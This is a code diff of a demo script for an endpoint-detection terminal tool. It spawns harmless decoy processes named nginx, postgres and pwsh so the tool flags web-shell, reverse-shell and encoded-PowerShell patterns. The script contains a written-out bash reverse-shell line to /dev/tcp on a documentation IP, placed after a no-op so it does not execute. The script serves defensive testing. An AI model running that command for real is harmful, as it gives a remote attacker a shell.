@@ -23,12 +23,12 @@ LONGEST = 50.0
 _DEFAULT = 40.0
 
 _STORY = """\
-edr-tui demo: a harmless tree runs for {seconds:.0f} s, then all of it ends. In edr-tui, look for:
-  nginx  starts sh, and sh runs id, uname and sleep          Web Shell
-  nginx  starts sh again, with /dev/tcp on its command line  Reverse shell text
-  sleep  whose starter is gone: its ancestry stays           an orphan below nginx
-  pwsh   with an encoded command                             decoded in the detail pane
-  postgres starts sh                                         a shell out of a database server
+edr-tui demo: a harmless tree runs for {seconds:.0f} s, then all of it ends. Watch for:
+  Web server starts a shell           nginx starts sh, three times
+  Reverse shell through /dev/tcp      one of them, by what stands on its command line
+  Database server starts a shell      postgres starts sh
+  PowerShell runs an encoded command  pwsh; the detail pane shows the text
+  and a sleep whose starter ends after 3 s: it stays below nginx
 """
 
 # What runs under a borrowed name: it starts the scripts, and waits for its end. It comes on standard
@@ -115,7 +115,7 @@ def _posix(duration: float) -> list[subprocess.Popen[bytes]]:
     nginx = (
         f"id >/dev/null; uname -a >/dev/null; sleep {rest}",
         f": 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'; sleep {rest}",
-        f"(sleep {rest} &) ; sleep 2",
+        f"sleep {rest} & sleep 3",
     )
     encoded = base64.b64encode("Get-Date; Start-Sleep 30".encode("utf-16-le")).decode("ascii")
     folder = Path(tempfile.mkdtemp(prefix="edr-tui-demo-"))
